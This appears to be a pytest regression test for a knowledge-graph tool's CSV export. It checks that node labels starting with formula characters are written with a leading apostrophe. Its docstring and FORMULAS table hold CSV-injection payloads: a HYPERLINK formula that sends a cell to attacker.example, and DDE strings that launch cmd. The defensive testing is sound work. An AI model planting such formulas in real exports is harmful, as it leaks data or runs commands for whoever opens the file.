"""The fifteenth outside attack (session 28): a label that is a spreadsheet formula, in a CSV export.

`kg network export --format csv` writes an edge table and a node table for Gephi and for spreadsheets.
A label is whatever the store or endpoint holds (a store loaded from someone's N-Quads, a Graph Store
write, `--endpoint`), and the tables wrote it as it was: a label `=HYPERLINK("http://attacker.example/?"
&B2,"DMTF")` opened in LibreOffice Calc or Excel is a formula, a link that sends the cell beside it
away, and `=cmd|' /C calc'!A0` (DDE) has run commands (OWASP, "CSV Injection"). Now a cell opening
with `=`, `+`, `-`, `@`, a tab or a carriage return is written with a leading `'` (shown as text), and
reading the file back (kg.network.export.read_csv) takes it off. A real HTTP endpoint on 127.0.0.1
answers; `kg` runs as a subprocess.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from support.cli import kg_command
from support.static_endpoint import answering

from kg.network.export import read_network

XSD_INTEGER = "http://www.w3.org/2001/XMLSchema#integer"
FIRST, SECOND = "http://example.org/a", "http://example.org/c"
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://attacker.example/?"&B2,"DMTF")',
    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "quote": "'=1+1",
}


def network_answer(label: str) -> bytes:
    """SPARQL JSON holding every variable the organizations network asks for: two nodes and their edge."""

    def node(iri: str, name: str) -> dict[str, dict[str, str]]:
        return {
            "node": {"type": "uri", "value": iri},
            "source": {"type": "uri", "value": FIRST},
            "target": {"type": "uri", "value": SECOND},
            "kind": {"type": "literal", "value": "organization"},
            "label": {"type": "literal", "value": name},
            "weight": {"type": "literal", "value": "1", "datatype": XSD_INTEGER},
            "registers": {"type": "literal", "value": "http://example.org/register"},
            "register": {"type": "uri", "value": "http://example.org/register"},
            "specification": {"type": "uri", "value": "http://example.org/specification"},
        }

    rows = [node(FIRST, label), node(SECOND, "Plain Body")]
    return json.dumps({"head": {"vars": list(rows[0])}, "results": {"bindings": rows}}).encode()


@pytest.fixture(scope="module")
def endpoint() -> Iterator[str]:
    with answering({name: network_answer(label) for name, label in FORMULAS.items()}) as url:
        yield url


def export(endpoint: str, name: str, tmp_path: Path) -> Path:
    out = tmp_path / "network.csv"
    done = kg_command(
        "network",
        "export",
        "--endpoint",
        f"{endpoint}/{name}",
        "--format",
        "csv",
        "--out",
        str(out),
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    return out


@pytest.mark.parametrize("name", sorted(FORMULAS))
def test_no_cell_of_the_node_table_opens_a_formula(endpoint: str, name: str, tmp_path: Path) -> None:
    out = export(endpoint, name, tmp_path)
    with (tmp_path / "network.nodes.csv").open(newline="", encoding="utf-8") as stream:
        cells = [cell for row in csv.reader(stream) for cell in row]
    assert "'" + FORMULAS[name] in cells, cells  # written as text
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    # and the file reads back as the graph that was written
    labels = {data["label"] for _, data in read_network(out).nodes(data=True)}
    assert labels == {FORMULAS[name], "Plain Body"}


def test_other_formats_keep_the_label_as_it_is(endpoint: str, tmp_path: Path) -> None:
    out = tmp_path / "network.json"
    done = kg_command(
        "network",
        "export",
        "--endpoint",
        f"{endpoint}/hyperlink",
        "--format",
        "json",
        "--out",
        str(out),
        cwd=tmp_path,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert FORMULAS["hyperlink"] in {node["label"] for node in json.loads(out.read_text())["nodes"]}
